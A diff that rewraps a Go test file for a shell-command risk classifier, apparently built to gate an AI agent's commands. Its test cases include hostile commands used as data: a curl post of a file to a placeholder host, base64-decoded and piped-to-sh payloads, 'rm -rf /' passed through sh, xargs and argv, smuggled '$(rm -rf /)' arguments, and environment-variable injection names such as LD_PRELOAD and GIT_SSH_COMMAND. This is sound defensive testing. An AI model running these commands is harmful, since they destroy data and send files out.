@@ -14,37 +14,61 @@ func TestRisk(t *testing.T) {
 		command        string
 		sealed, unseal tool.Risk
 	}{
-		{"ls", r, r}, {"ls -la | head -3", r, r}, {"pwd", r, r}, {"cat go.mod", r, r}, {"git status", r, r}, {"git log -3", r, r},
-		{"git diff | cat", r, r}, {"grep -rn foo . | head", r, r}, {"rg foo", r, r}, {"find . -name '*.go'", r, r}, {"wc -l x", r, r},
-		{"echo hi", r, r}, {"printf '%s' x", r, r}, {"true && false", r, r}, {"which go", r, r}, {"head -5 x; tail -5 x", r, r},
-		{"sort x | uniq -c", r, r}, {"jq .a x.json", r, r}, {"sed -n 1,5p x", r, r}, {"awk '{print $2}' x", r, r}, {"cut -f1 x", r, r},
-		{"diff a b", r, r}, {"stat x", r, r}, {"du -sh .", r, r}, {"date", r, r}, {"go version", r, r}, {"go list ./...", r, r},
-		{"npm ls", r, r}, {"pip list", r, r}, {"cargo tree", r, r}, {"docker ps", r, r}, {"git branch", r, r}, {"git stash list", r, r},
-		{"for f in a b; do cat $f; done", r, r}, {"[ -f x ] && cat x", r, r}, {"test -d x || echo no", r, r}, {"X=1; echo $X", r, r},
+		{"ls", r, r}, {"ls -la | head -3", r, r}, {"pwd", r, r}, {"cat go.mod", r, r}, {"git status", r, r},
+		{"git log -3", r, r},
+		{"git diff | cat", r, r}, {"grep -rn foo . | head", r, r}, {"rg foo", r, r}, {"find . -name '*.go'", r, r},
+		{"wc -l x", r, r},
+		{"echo hi", r, r}, {"printf '%s' x", r, r}, {"true && false", r, r}, {"which go", r, r},
+		{"head -5 x; tail -5 x", r, r},
+		{"sort x | uniq -c", r, r}, {"jq .a x.json", r, r}, {"sed -n 1,5p x", r, r}, {"awk '{print $2}' x", r, r},
+		{"cut -f1 x", r, r},
+		{"diff a b", r, r}, {"stat x", r, r}, {"du -sh .", r, r}, {"date", r, r}, {"go version", r, r},
+		{"go list ./...", r, r},
+		{"npm ls", r, r}, {"pip list", r, r}, {"cargo tree", r, r}, {"docker ps", r, r}, {"git branch", r, r},
+		{"git stash list", r, r},
+		{"for f in a b; do cat $f; done", r, r}, {"[ -f x ] && cat x", r, r}, {"test -d x || echo no", r, r},
+		{"X=1; echo $X", r, r},
 		{"cat /etc/os-release", r, r}, {"ls /usr/lib", r, r}, {"node --version", r, r}, {"bash -c 'ls | wc -l'", r, r},
-		{"ls > /dev/null 2>&1", r, r}, {"env FOO=1 ls", r, r}, {"timeout 5 ls", r, r}, {"xargs -n1 echo < x", r, r}, {"git worktree list", r, r},
-		{"git ls-files | xargs wc -l", r, r}, {"echo 'ls' | sh", r, r}, {"echo bHM= | base64 -d | sh", r, r}, {"eval ls", r, r},
+		{"ls > /dev/null 2>&1", r, r}, {"env FOO=1 ls", r, r}, {"timeout 5 ls", r, r}, {"xargs -n1 echo < x", r, r},
+		{"git worktree list", r, r},
+		{"git ls-files | xargs wc -l", r, r}, {"echo 'ls' | sh", r, r}, {"echo bHM= | base64 -d | sh", r, r},
+		{"eval ls", r, r},
 		{"ls ~/x", r, x}, {"cat ../other/x", r, x}, {"find .. -name x", r, x}, {"cat /home/other/x", r, x},
-		{"echo x > a.txt", w, w}, {"mkdir -p a/b", w, w}, {"touch a", w, w}, {"cp a b", w, w}, {"mv a b", w, w}, {"sed -i s/a/b/ x", w, w},
-		{"git add .", w, w}, {"git commit -m x", w, w}, {"git checkout main", w, w}, {"git stash", w, w}, {"git reset HEAD x", w, w},
-		{"tar xzf a.tgz", w, w}, {"chmod +x a.sh", w, w}, {"gofmt -w .", w, w}, {"go mod tidy", w, w}, {"tee a < b", w, w},
-		{"go test ./...", w, x}, {"go build ./...", w, x}, {"make", w, x}, {"npm test", w, x}, {"npm run build", w, x}, {"cargo test", w, x},
-		{"pytest", w, x}, {"python a.py", w, x}, {"node a.js", w, x}, {"./run.sh", w, x}, {"bash a.sh", w, x}, {"./gradlew test", w, x},
-		{"npx tsc", w, x}, {"curl localhost:3000", w, x}, {"git fetch", w, x}, {"python -m pytest", w, x}, {"gcc a.c", w, x},
+		{"echo x > a.txt", w, w}, {"mkdir -p a/b", w, w}, {"touch a", w, w}, {"cp a b", w, w}, {"mv a b", w, w},
+		{"sed -i s/a/b/ x", w, w},
+		{"git add .", w, w}, {"git commit -m x", w, w}, {"git checkout main", w, w}, {"git stash", w, w},
+		{"git reset HEAD x", w, w},
+		{"tar xzf a.tgz", w, w}, {"chmod +x a.sh", w, w}, {"gofmt -w .", w, w}, {"go mod tidy", w, w},
+		{"tee a < b", w, w},
+		{"go test ./...", w, x}, {"go build ./...", w, x}, {"make", w, x}, {"npm test", w, x}, {"npm run build", w, x},
+		{"cargo test", w, x},
+		{"pytest", w, x}, {"python a.py", w, x}, {"node a.js", w, x}, {"./run.sh", w, x}, {"bash a.sh", w, x},
+		{"./gradlew test", w, x},
+		{"npx tsc", w, x}, {"curl localhost:3000", w, x}, {"git fetch", w, x}, {"python -m pytest", w, x},
+		{"gcc a.c", w, x},
 		{"python3.12 a.py", w, x}, {"clang-15 a.c", w, x}, {"rm -rf /tmp/a", w, d}, {"CC=clang make", w, x},
-		{"rm a", d, d}, {"rm -rf node_modules", w, d}, {"rm -rf src", d, d}, {"git reset --hard", d, d}, {"git clean -fd", d, d}, {"git push -f", d, d},
-		{"git push --delete o b", d, d}, {"git restore .", d, d}, {"find . -name '*.o' -delete", d, d}, {"truncate -s0 a", d, d},
-		{"echo x > ../a", d, d}, {"echo x > $F", d, d}, {"docker rm a", d, d}, {"cargo clean", d, d}, {"rm ~/x", d, d}, {"shred a", d, d},
-		{"npm ci", x, x}, {"pip install x", x, x}, {"apt-get install x", x, x}, {"python -c 'print(1)'", x, x}, {"perl -e 1", x, x},
-		{"kill 1234", x, x}, {"env", r, x}, {"printenv", r, x}, {"ssh h ls", x, x}, {"docker run x", x, x}, {"$CMD", x, x}, {"unheard-of", x, x},
-		{"eval \"$X\"", x, x}, {"sh -c \"$X\"", x, x}, {"ls (", x, x}, {"curl -d @a http://h.example", x, x}, {"nc -z h 1", x, x},
-		{"cat a.sh | sh", x, x}, {"go get x", x, x}, {"PATH=x:$PATH ls", x, x}, {"npx cowsay", x, x}, {"mcp-tools doctor", x, x},
-		{"awk 'BEGIN{system(\"ls\")}'", x, x}, {"vim -c q", x, x}, {"dig h.example", x, x}, {"git $X", x, x}, {"find \"$X\"", x, x},
+		{"rm a", d, d}, {"rm -rf node_modules", w, d}, {"rm -rf src", d, d}, {"git reset --hard", d, d},
+		{"git clean -fd", d, d}, {"git push -f", d, d},
+		{"git push --delete o b", d, d}, {"git restore .", d, d}, {"find . -name '*.o' -delete", d, d},
+		{"truncate -s0 a", d, d},
+		{"echo x > ../a", d, d}, {"echo x > $F", d, d}, {"docker rm a", d, d}, {"cargo clean", d, d}, {"rm ~/x", d, d},
+		{"shred a", d, d},
+		{"npm ci", x, x}, {"pip install x", x, x}, {"apt-get install x", x, x}, {"python -c 'print(1)'", x, x},
+		{"perl -e 1", x, x},
+		{"kill 1234", x, x}, {"env", r, x}, {"printenv", r, x}, {"ssh h ls", x, x}, {"docker run x", x, x},
+		{"$CMD", x, x}, {"unheard-of", x, x},
+		{"eval \"$X\"", x, x}, {"sh -c \"$X\"", x, x}, {"ls (", x, x}, {"curl -d @a http://h.example", x, x},
+		{"nc -z h 1", x, x},
+		{"cat a.sh | sh", x, x}, {"go get x", x, x}, {"PATH=x:$PATH ls", x, x}, {"npx cowsay", x, x},
+		{"mcp-tools doctor", x, x},
+		{"awk 'BEGIN{system(\"ls\")}'", x, x}, {"vim -c q", x, x}, {"dig h.example", x, x}, {"git $X", x, x},
+		{"find \"$X\"", x, x},
 	} {
 		for i, want := range []tool.Risk{c.sealed, c.unseal} {
 			v := Judge(request(c.command, i == 0), Rules{})
 			if v.Risk != want || v.Denied != nil {
-				t.Errorf("sealed %v: %q is %s (%s), denied %v, want %s", i == 0, c.command, v.Risk, v.Why, v.Denied, want)
+				t.Errorf("sealed %v: %q is %s (%s), denied %v, want %s", i == 0, c.command, v.Risk, v.Why, v.Denied,
+					want)
 			}
 		}
 	}
@@ -90,7 +114,8 @@ func TestDenials(t *testing.T) {
 			t.Errorf("%q: %+v", command, v)
 		}
 		group := v.Denied.Group
-		if off := Judge(request(command, true), Rules{Groups: map[string]Action{group: Off}}); off.Denied != nil && off.Denied.Group == group {
+		if off := Judge(request(command, true), Rules{Groups: map[string]Action{group: Off}}); off.Denied != nil &&
+			off.Denied.Group == group {
 			t.Errorf("%q is denied by %s, which is off", command, group)
 		}
 		ask := Judge(request(command, true), Rules{Groups: map[string]Action{group: Ask}})
@@ -127,7 +152,11 @@ func TestGroupsAreComplete(t *testing.T) {
 
 // The variables beside a command that make harmless programs run code.
 func TestRequestEnv(t *testing.T) {
-	for _, name := range []string{"PATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "BASH_FUNC_ls%%", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV", "GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "npm_config_registry", "CARGO_REGISTRIES_X_INDEX", "PAGER", "HOME", "HTTPS_PROXY", "GOFLAGS", "CC", "IFS", "PS4", "SSL_CERT_FILE", "DOCKER_HOST", "PIP_INDEX_URL", "MCP_TOOLS_DATA", "GIT_DIR", "RUSTC_WRAPPER", "MAKEFLAGS", "TAR_OPTIONS", "RIPGREP_CONFIG_PATH", "CARGO_BUILD_RUSTC_WRAPPER", "GIT_TRACE", "VIMINIT", ""} {
+	for _, name := range []string{"PATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "BASH_FUNC_ls%%", "NODE_OPTIONS",
+		"PYTHONPATH", "BASH_ENV", "GIT_SSH_COMMAND", "GIT_CONFIG_COUNT", "npm_config_registry",
+		"CARGO_REGISTRIES_X_INDEX", "PAGER", "HOME", "HTTPS_PROXY", "GOFLAGS", "CC", "IFS", "PS4", "SSL_CERT_FILE",
+		"DOCKER_HOST", "PIP_INDEX_URL", "MCP_TOOLS_DATA", "GIT_DIR", "RUSTC_WRAPPER", "MAKEFLAGS", "TAR_OPTIONS",
+		"RIPGREP_CONFIG_PATH", "CARGO_BUILD_RUSTC_WRAPPER", "GIT_TRACE", "VIMINIT", ""} {
 		r := request("ls", true)
 		r.Env = []string{name}
 		if v := Judge(r, Rules{}); v.Denied == nil || v.Denied.Group != "env_injection" {
@@ -152,10 +181,14 @@ func TestRequestEnv(t *testing.T) {
 
 func TestAlways(t *testing.T) {
 	for command, want := range map[string]bool{
-		"rm -rf dist": true, "go test ./...": true, "npm run build": true, "git push": true, "git commit -m x && git push": true, "make test": true,
-		"python a.py": false, "bash a.sh": false, "sh -c ls": false, "env ls": false, "timeout 5 make": false, "rm $X": false, "rm *.o": false,
-		"find . -delete": false, "$X": false, "ls (": false, "npm ci": false, "f() { ls; }; f": false, "sudo ls": false, "awk 1 x": false,
-		"X=1 make": false, "/usr/bin/python3 a.py": false, "xargs rm": false, "ls `x`": false, "rm -rf /": false, "": false,
+		"rm -rf dist": true, "go test ./...": true, "npm run build": true, "git push": true,
+		"git commit -m x && git push": true, "make test": true,
+		"python a.py": false, "bash a.sh": false, "sh -c ls": false, "env ls": false, "timeout 5 make": false,
+		"rm $X": false, "rm *.o": false,
+		"find . -delete": false, "$X": false, "ls (": false, "npm ci": false, "f() { ls; }; f": false, "sudo ls": false,
+		"awk 1 x":  false,
+		"X=1 make": false, "/usr/bin/python3 a.py": false, "xargs rm": false, "ls `x`": false, "rm -rf /": false,
+		"": false,
 	} {
 		if v := Judge(request(command, true), Rules{}); v.Always != want {
 			t.Errorf("%q always: %v", command, v.Always)
@@ -169,11 +202,13 @@ func TestModes(t *testing.T) {
 		command string
 		want    tool.Risk
 	}{
-		{Risky, "touch a", tool.Writes}, {Unknown, "touch a", tool.Runs}, {Unknown, "ls", tool.Reads}, {Unknown, "make all", tool.Writes},
+		{Risky, "touch a", tool.Writes}, {Unknown, "touch a", tool.Runs}, {Unknown, "ls", tool.Reads},
+		{Unknown, "make all", tool.Writes},
 		{Always, "ls", tool.Runs}, {Unknown, "mkdir a$X", tool.Destroys}, {Unknown, "echo a > b", tool.Runs},
 	} {
 		allow, _ := ParsePattern("make *")
-		if v := Judge(request(c.command, true), Rules{Mode: c.mode, Allow: []Pattern{allow}}); v.Risk < c.want || c.want < tool.Destroys && v.Risk != c.want {
+		if v := Judge(request(c.command, true), Rules{Mode: c.mode, Allow: []Pattern{allow}}); v.Risk < c.want ||
+			c.want < tool.Destroys && v.Risk != c.want {
 			t.Errorf("mode %d: %q is %s", c.mode, c.command, v.Risk)
 		}
 	}
@@ -187,9 +222,12 @@ func TestStdin(t *testing.T) {
 		want           tool.Risk
 		denied         bool
 	}{
-		{"sh", "rm -rf /", false, tool.Runs, true}, {"bash -s", "ls", false, tool.Reads, false}, {"python3", "print(1)", false, tool.Runs, false},
-		{"cat", "rm -rf /", false, tool.Reads, false}, {"sh", "", true, tool.Runs, false}, {"cat", "", true, tool.Reads, false},
-		{"xargs rm -rf", "/", false, tool.Runs, true}, {"env python3 -", "x", false, tool.Runs, false}, {"cat | sh", "rm -rf /", false, tool.Runs, true},
+		{"sh", "rm -rf /", false, tool.Runs, true}, {"bash -s", "ls", false, tool.Reads, false},
+		{"python3", "print(1)", false, tool.Runs, false},
+		{"cat", "rm -rf /", false, tool.Reads, false}, {"sh", "", true, tool.Runs, false},
+		{"cat", "", true, tool.Reads, false},
+		{"xargs rm -rf", "/", false, tool.Runs, true}, {"env python3 -", "x", false, tool.Runs, false},
+		{"cat | sh", "rm -rf /", false, tool.Runs, true},
 	} {
 		r := request(c.command, true)
 		r.Stdin, r.Open = c.stdin, c.open
@@ -206,11 +244,15 @@ func TestArgv(t *testing.T) {
 		want   tool.Risk
 		denied bool
 	}{
-		{[]string{"ls", "-la"}, tool.Reads, false}, {[]string{"echo", "$(rm -rf /)", "; rm -rf /"}, tool.Reads, false}, {[]string{"rm", "-rf", "/"}, tool.Runs, true},
-		{[]string{"sh", "-c", "rm -rf /"}, tool.Runs, true}, {[]string{"rm", "-rf", "*"}, tool.Destroys, false}, {[]string{"rm", "-rf", "~"}, tool.Destroys, false},
-		{[]string{"if"}, tool.Runs, false}, {[]string{""}, tool.Runs, false}, {[]string{"env", "LD_PRELOAD=x", "ls"}, tool.Runs, true},
+		{[]string{"ls", "-la"}, tool.Reads, false}, {[]string{"echo", "$(rm -rf /)", "; rm -rf /"}, tool.Reads, false},
+		{[]string{"rm", "-rf", "/"}, tool.Runs, true},
+		{[]string{"sh", "-c", "rm -rf /"}, tool.Runs, true}, {[]string{"rm", "-rf", "*"}, tool.Destroys, false},
+		{[]string{"rm", "-rf", "~"}, tool.Destroys, false},
+		{[]string{"if"}, tool.Runs, false}, {[]string{""}, tool.Runs, false},
+		{[]string{"env", "LD_PRELOAD=x", "ls"}, tool.Runs, true},
 	} {
-		v := Judge(Request{Argv: c.argv, Dir: "/work/app", Roots: []string{"/work/app"}, Home: "/home/dev", Sealed: true}, Rules{})
+		v := Judge(Request{Argv: c.argv, Dir: "/work/app", Roots: []string{"/work/app"}, Home: "/home/dev",
+			Sealed: true}, Rules{})
 		if v.Risk != c.want || (v.Denied != nil) != c.denied {
 			t.Errorf("%q: %s (%s), %+v", c.argv, v.Risk, v.Why, v.Denied)
 		}
@@ -228,7 +270,8 @@ func TestLongLists(t *testing.T) {
 }
 
 func TestCommentsAreNotDoubted(t *testing.T) {
-	for _, command := range []string{"ls # x", "# x\nls", "(ls # x\n)", "ls; # x\nls", "echo a#b", "echo \"# x\"", "if true; then # x\nls\nfi"} {
+	for _, command := range []string{"ls # x", "# x\nls", "(ls # x\n)", "ls; # x\nls", "echo a#b", "echo \"# x\"",
+		"if true; then # x\nls\nfi"} {
 		if v := Judge(request(command, true), Rules{}); v.Risk != tool.Reads {
 			t.Errorf("%q is %s: %s", command, v.Risk, v.Why)
 		}
